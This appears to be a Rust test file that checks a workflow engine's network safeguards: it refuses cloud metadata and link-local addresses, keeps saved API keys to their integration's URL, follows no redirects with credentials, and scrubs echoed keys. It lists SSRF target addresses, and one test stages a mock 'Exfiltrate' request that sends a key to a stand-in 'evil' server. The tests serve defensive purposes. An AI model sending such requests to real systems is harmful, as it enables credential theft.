//! The network rules of runs, against stand-in servers on 127.0.0.1: where requests may go
//! (the run's policy, link-local never), where a saved credential may be sent (its
//! integration's base URL, over TLS or to this computer), no redirects with a credential,
//! every echo of a key scrubbed, and the timeouts' bounds.

mod common;

use std::collections::HashMap;
use std::sync::Arc;

use common::*;
use neuroflow_engine::*;
use serde_json::{json, Value as Json};
use uuid::Uuid;

const KEY: &str = "nf-canary-key-7c1e";

/// A host whose one credential `acme` is saved on an integration with `base_url`.
struct ScopedHost {
    base_url: String,
    agents: HashMap<Uuid, AgentProfile>,
}

impl EngineHost for ScopedHost {
    fn agent(&self, id: Uuid) -> HostFuture<'_, Result<AgentProfile, String>> {
        Box::pin(async move {
            self.agents
                .get(&id)
                .cloned()
                .ok_or_else(|| format!("no agent {id}"))
        })
    }
    fn blueprint(&self, id: Uuid) -> HostFuture<'_, Result<BlueprintGraph, String>> {
        Box::pin(async move { Err(format!("no blueprint {id}")) })
    }
    fn credential(
        &self,
        request: CredentialRequest,
    ) -> HostFuture<'_, Result<Option<Secret>, String>> {
        Box::pin(async move {
            Ok(request.credential.map(|_| {
                Secret::scoped(
                    KEY,
                    CredentialScope {
                        name: "Acme API".into(),
                        base_url: self.base_url.clone(),
                    },
                )
            }))
        })
    }
}

fn scoped(base_url: &str) -> Arc<ScopedHost> {
    Arc::new(ScopedHost {
        base_url: base_url.to_string(),
        agents: HashMap::new(),
    })
}

/// A run with the default policy: graph-named URLs reach neither this computer nor a LAN.
fn strict(g: neuroflow_model::graph::Graph) -> RunRequest {
    RunRequest {
        network: NetworkPolicy::default(),
        ..request(g, json!({}))
    }
}

/// Echoes the request's headers and body back, in the body and in a response header.
async fn echo() -> (String, Arc<std::sync::Mutex<Vec<Request>>>) {
    serve(|req| {
        let headers: serde_json::Map<String, Json> = req
            .headers
            .iter()
            .map(|(k, v)| (k.clone(), Json::String(v.clone())))
            .collect();
        let auth = req
            .header("authorization")
            .or(req.header("x-api-key"))
            .unwrap_or("")
            .to_string();
        Reply::json(
            200,
            json!({"headers": headers, "body": String::from_utf8_lossy(&req.body)}),
        )
        .with_header("x-echo-auth", &auth)
    })
    .await
}

fn one(g: &[&neuroflow_model::graph::GraphNode]) -> neuroflow_model::graph::Graph {
    graph(g, vec![edge(g[0], g[1])])
}

fn error_of(r: &RunResult) -> String {
    r.error.clone().unwrap_or_default()
}

#[tokio::test]
async fn graph_named_urls_reach_this_computer_only_when_the_run_allows_it() {
    let (base, log) = serve(|_| Reply::json(200, json!({"ok": true}))).await;
    let t = manual();
    let get = node("http.request", "Local", json!({"url": format!("{base}/x")}));
    let (r, _) = run_with(strict(one(&[&t, &get])), Arc::new(NoHost)).await;
    assert_eq!(r.status, RunStatus::Failed);
    let error = error_of(&r);
    assert!(error.contains("node 'Local'"), "{error}");
    assert!(error.contains("127.0.0.1"), "{error}");
    assert!(error.contains("allowPrivateNetwork"), "{error}");
    assert!(log.lock().expect("log").is_empty(), "the request was sent");

    let (r, _) = run_with(request(one(&[&t, &get]), json!({})), Arc::new(NoHost)).await;
    assert_eq!(r.status, RunStatus::Completed, "{:?}", r.error);
    assert_eq!(log.lock().expect("log").len(), 1);
}

#[tokio::test]
async fn metadata_and_link_local_addresses_are_refused_whatever_the_policy() {
    for url in [
        "http://169.254.169.254/latest/meta-data/",
        "http://[fe80::1]/",
        "http://100.100.100.200/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://[::ffff:169.254.169.254]/",
    ] {
        let t = manual();
        let get = node("http.request", "Metadata", json!({"url": url}));
        let (r, _) = run_with(request(one(&[&t, &get]), json!({})), Arc::new(NoHost)).await;
        assert_eq!(r.status, RunStatus::Failed, "{url}");
        let error = error_of(&r);
        assert!(error.contains("never reach"), "{url}: {error}");
    }
}

#[tokio::test]
async fn a_redirect_to_a_refused_address_is_not_followed() {
    let (base, _) = serve(|_| {
        Reply::json(302, json!({})).with_header("location", "http://169.254.169.254/latest/")
    })
    .await;
    let t = manual();
    let get = node("http.request", "Hop", json!({"url": format!("{base}/x")}));
    let (r, _) = run_with(request(one(&[&t, &get]), json!({})), Arc::new(NoHost)).await;
    assert_eq!(r.status, RunStatus::Failed);
    assert!(error_of(&r).contains("169.254.169.254"), "{}", error_of(&r));
}

#[tokio::test]
async fn plain_redirects_are_followed_but_never_with_a_credential_or_own_headers() {
    let (target, target_log) = serve(|_| Reply::json(200, json!({"landed": true}))).await;
    let location = format!("{target}/landed");
    let (base, _) =
        serve(move |_| Reply::json(302, json!({})).with_header("location", &location)).await;
    let t = manual();
    let plain = node("http.request", "Plain", json!({"url": format!("{base}/a")}));
    let (r, _) = run_with(request(one(&[&t, &plain]), json!({})), Arc::new(NoHost)).await;
    assert_eq!(out(&r, &plain, "main")[0]["body"]["landed"], true);
    assert_eq!(target_log.lock().expect("log").len(), 1);

    let keyed = node(
        "http.request",
        "Keyed",
        json!({"url": format!("{base}/a"), "credential": "acme", "failOnStatus": false}),
    );
    let (r, _) = run_with(request(one(&[&t, &keyed]), json!({})), scoped(&base)).await;
    assert_eq!(r.status, RunStatus::Completed, "{:?}", r.error);
    assert_eq!(out(&r, &keyed, "main")[0]["status"], 302);

    let headed = node(
        "http.request",
        "Headed",
        json!({"url": format!("{base}/a"), "headers": {"x-api-key": "typed-in"}, "failOnStatus": false}),
    );
    let (r, _) = run_with(request(one(&[&t, &headed]), json!({})), Arc::new(NoHost)).await;
    assert_eq!(out(&r, &headed, "main")[0]["status"], 302);
    assert_eq!(
        target_log.lock().expect("log").len(),
        1,
        "a request with a credential or headers followed the redirect"
    );
}

#[tokio::test]
async fn a_saved_credential_goes_only_under_its_integrations_base_url() {
    let (acme, acme_log) = echo().await;
    let (evil, evil_log) = echo().await;
    let t = manual();
    let elsewhere = node(
        "http.request",
        "Exfiltrate",
        json!({"url": format!("{evil}/collect"), "credential": "acme"}),
    );
    let (r, events) = run_with(
        request(one(&[&t, &elsewhere]), json!({})),
        scoped(&format!("{acme}/api")),
    )
    .await;
    assert_eq!(r.status, RunStatus::Failed);
    let error = error_of(&r);
    assert!(error.contains("node 'Exfiltrate'"), "{error}");
    assert!(
        error.contains(&format!(
            "the credential 'Acme API' is only sent to {acme}/api"
        )),
        "{error}"
    );
    assert!(
        error.contains(&format!("this URL is {evil}/collect")),
        "{error}"
    );
    assert!(
        evil_log.lock().expect("log").is_empty(),
        "the key was sent elsewhere"
    );
    assert!(!format!("{r:?}{events:?}").contains(KEY));

    // Outside the base path on the same server is elsewhere too.
    let sideways = node(
        "http.request",
        "Sideways",
        json!({"url": format!("{acme}/admin"), "credential": "acme"}),
    );
    let (r, _) = run_with(
        request(one(&[&t, &sideways]), json!({})),
        scoped(&format!("{acme}/api")),
    )
    .await;
    assert_eq!(r.status, RunStatus::Failed);
    assert!(acme_log.lock().expect("log").is_empty());

    // Under it, the key is sent, even with the strict policy (the integration's URL is the
    // person's own choice), and every echo of it is scrubbed.
    let home = node(
        "http.request",
        "Home",
        json!({"method": "POST", "url": format!("{acme}/api/echo"), "credential": "acme",
               "body": {"note": "hello"}}),
    );
    let (r, events) = run_with(strict(one(&[&t, &home])), scoped(&format!("{acme}/api"))).await;
    assert_eq!(r.status, RunStatus::Completed, "{:?}", r.error);
    let seen = acme_log.lock().expect("log").clone();
    assert_eq!(seen.len(), 1);
    assert_eq!(
        seen[0].header("authorization"),
        Some(format!("Bearer {KEY}").as_str())
    );
    let output = out(&r, &home, "main");
    assert_eq!(output[0]["body"]["headers"]["authorization"], "Bearer ***");
    assert_eq!(output[0]["headers"]["x-echo-auth"], "Bearer ***");
    let everything = format!(
        "{}{}{events:?}",
        serde_json::to_string(&r.nodes).expect("json"),
        serde_json::to_string(&r.output).expect("json")
    );
    assert!(
        !everything.contains(KEY),
        "the key reached the result or events"
    );
}

#[tokio::test]
async fn credentials_are_not_sent_over_plain_http_to_another_host() {
    let t = manual();
    let get = node(
        "http.request",
        "Plain",
        json!({"url": "http://api.example.invalid/x", "credential": "api-token"}),
    );
    let host = TestHost {
        keys: HashMap::from([("api-token".to_string(), KEY.to_string())]),
        ..TestHost::default()
    };
    let (r, _) = run_with(request(one(&[&t, &get]), json!({})), Arc::new(host)).await;
    assert_eq!(r.status, RunStatus::Failed);
    let error = error_of(&r);
    assert!(error.contains("only sent over https://"), "{error}");
    assert!(error.contains("http://api.example.invalid/x"), "{error}");
}

#[tokio::test]
async fn llm_keys_go_only_to_the_integrations_url_and_echoes_are_scrubbed() {
    // An OpenAI-protocol server that puts the key it got into the reply and the usage model.
    let (llm, llm_log) = serve(|req| {
        let auth = req.header("authorization").unwrap_or("").to_string();
        Reply::json(
            200,
            json!({
                "model": format!("gpt-4o {auth}"),
                "choices": [{"message": {"role": "assistant", "content": format!("you sent {auth}")}, "finish_reason": "stop"}],
                "usage": {"prompt_tokens": 1, "completion_tokens": 1}
            }),
        )
    })
    .await;
    let (evil, evil_log) = echo().await;
    let t = manual();
    let away = node(
        "ai.llm",
        "Away",
        json!({"baseUrl": format!("{evil}/v1"), "model": "gpt-4o", "prompt": "hi", "credential": "acme"}),
    );
    let (r, _) = run_with(
        request(one(&[&t, &away]), json!({})),
        scoped(&format!("{llm}/v1")),
    )
    .await;
    assert_eq!(r.status, RunStatus::Failed);
    let error = error_of(&r);
    assert!(error.contains("node 'Away'"), "{error}");
    assert!(error.contains("'Acme API' is only sent to"), "{error}");
    assert!(evil_log.lock().expect("log").is_empty());

    let home = node(
        "ai.llm",
        "Home",
        json!({"baseUrl": format!("{llm}/v1"), "model": "gpt-4o", "prompt": "hi", "credential": "acme"}),
    );
    let (r, events) = run_with(strict(one(&[&t, &home])), scoped(&format!("{llm}/v1"))).await;
    assert_eq!(r.status, RunStatus::Completed, "{:?}", r.error);
    assert_eq!(llm_log.lock().expect("log").len(), 1);
    assert_eq!(out(&r, &home, "text")[0], "you sent Bearer ***");
    let everything = format!(
        "{r:?}{events:?}{}",
        serde_json::to_string(&r.agent_calls).expect("json")
    );
    assert!(
        !everything.contains(KEY),
        "the key reached the result or events"
    );

    // An agent's model config follows the same rule.
    let id = Uuid::now_v7();
    let host = Arc::new(ScopedHost {
        base_url: format!("{llm}/v1"),
        agents: HashMap::from([(
            id,
            AgentProfile {
                id,
                name: "Ada".into(),
                description: String::new(),
                personality: json!({}),
                model_config: json!({"baseUrl": format!("{evil}/v1"), "model": "gpt-4o", "credential": "acme"}),
                capabilities: json!([]),
            },
        )]),
    });
    let agent = node(
        "ai.agent",
        "Agent",
        json!({"agentId": id.to_string(), "prompt": "hi"}),
    );
    let (r, _) = run_with(request(one(&[&t, &agent]), json!({})), host).await;
    assert_eq!(r.status, RunStatus::Failed);
    assert!(
        error_of(&r).contains("'Acme API' is only sent to"),
        "{}",
        error_of(&r)
    );
    assert!(evil_log.lock().expect("log").is_empty());
}

#[tokio::test]
async fn timeouts_have_defaults_bounds_and_apply() {
    let schema = catalog()
        .into_iter()
        .find(|k| k.kind == "http.request")
        .expect("http.request")
        .config_schema;
    assert_eq!(schema["properties"]["requestTimeoutMs"]["default"], 120_000);
    assert_eq!(schema["properties"]["connectTimeoutMs"]["default"], 10_000);
    let llm = catalog()
        .into_iter()
        .find(|k| k.kind == "ai.llm")
        .expect("ai.llm")
        .config_schema;
    assert_eq!(llm["properties"]["requestTimeoutMs"]["default"], 300_000);

    let t = manual();
    let too_long = node(
        "http.request",
        "Forever",
        json!({"url": "https://example.invalid/", "requestTimeoutMs": 10_000_000}),
    );
    // Validation enforces the schema's maximum, so the run is refused before it starts.
    let refused = run(
        request(one(&[&t, &too_long]), json!({})),
        Arc::new(NoHost),
        None,
        CancelToken::new(),
    )
    .await;
    let Err(RunRefused::Invalid(d)) = refused else {
        panic!("a timeout over its maximum is refused")
    };
    assert!(
        d.iter().any(|x| x.node_id == Some(too_long.id)
            && x.message
                .contains("'requestTimeoutMs' is 10000000; it must be at most 600000")),
        "{d:?}"
    );

    // A server that accepts and never answers.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let slow = format!("http://{}", listener.local_addr().expect("addr"));
    tokio::spawn(async move {
        let mut held = Vec::new();
        while let Ok((socket, _)) = listener.accept().await {
            held.push(socket);
        }
    });
    let quick = node(
        "http.request",
        "Quick",
        json!({"url": format!("{slow}/x"), "requestTimeoutMs": 200}),
    );
    let started = std::time::Instant::now();
    let (r, _) = run_with(request(one(&[&t, &quick]), json!({})), Arc::new(NoHost)).await;
    assert_eq!(r.status, RunStatus::Failed);
    assert!(started.elapsed() < std::time::Duration::from_millis(1_400));
    assert!(
        error_of(&r).contains("timed out") || error_of(&r).contains("timeout"),
        "{}",
        error_of(&r)
    );
}

/// A host whose credential `local` is an integration without auth at `base_url`.
struct KeylessHost {
    base_url: String,
}

impl EngineHost for KeylessHost {
    fn agent(&self, id: Uuid) -> HostFuture<'_, Result<AgentProfile, String>> {
        Box::pin(async move { Err(format!("no agent {id}")) })
    }
    fn blueprint(&self, id: Uuid) -> HostFuture<'_, Result<BlueprintGraph, String>> {
        Box::pin(async move { Err(format!("no blueprint {id}")) })
    }
    fn credential(
        &self,
        request: CredentialRequest,
    ) -> HostFuture<'_, Result<Option<Secret>, String>> {
        Box::pin(async move {
            Ok(request.credential.map(|_| {
                Secret::without_key(CredentialScope {
                    name: "Ollama".into(),
                    base_url: self.base_url.clone(),
                })
            }))
        })
    }
}

#[tokio::test]
async fn an_integration_without_auth_lets_a_local_model_be_reached_without_a_header() {
    let (base, log) = serve(|req| {
        Reply::json(
            200,
            json!({
                "model": "llama3.2",
                "choices": [{"message": {"role": "assistant", "content": format!("auth: {:?}", req.header("authorization"))}, "finish_reason": "stop"}],
                "usage": {"prompt_tokens": 1, "completion_tokens": 1}
            }),
        )
    })
    .await;
    let t = manual();
    let ask = node(
        "ai.llm",
        "Local",
        json!({"provider": "ollama", "baseUrl": format!("{base}/v1"), "model": "llama3.2",
               "prompt": "hi", "credential": "local"}),
    );
    let host = Arc::new(KeylessHost {
        base_url: format!("{base}/v1"),
    });
    let (r, _) = run_with(strict(one(&[&t, &ask])), host.clone()).await;
    assert_eq!(r.status, RunStatus::Completed, "{:?}", r.error);
    assert_eq!(out(&r, &ask, "text")[0], "auth: None");
    assert_eq!(log.lock().expect("log").len(), 1);

    // Without naming the integration, the same URL is the graph's own: refused by default.
    let bare = node(
        "ai.llm",
        "Bare",
        json!({"provider": "ollama", "baseUrl": format!("{base}/v1"), "model": "llama3.2", "prompt": "hi"}),
    );
    let (r, _) = run_with(strict(one(&[&t, &bare])), host).await;
    assert_eq!(r.status, RunStatus::Failed);
    assert!(
        error_of(&r).contains("allowPrivateNetwork"),
        "{}",
        error_of(&r)
    );
}
